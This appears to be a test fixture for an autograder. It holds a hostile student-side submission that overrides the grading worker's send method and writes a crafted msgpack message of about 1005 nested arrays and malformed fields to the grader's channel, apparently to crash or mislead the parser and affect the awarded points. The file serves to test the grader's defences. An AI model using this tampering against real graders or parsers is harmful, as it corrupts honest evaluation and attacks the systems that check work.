# threat: 7
# verdict: wrong | student_error | protocol
# reaches: points
{WRONG}
{WORKER}
import os
from autograder import wire
def send(self, kind, sequence, value):
    body = b"\x82\xa4text\xa0\xa5error\x82\xa4type" + b"\x91" * 1005 + b"\xc0\xa7message\xc0"
    os.write(self._write, wire.pack_header(2, sequence, len(body), 0) + body)
type(worker)._send = send
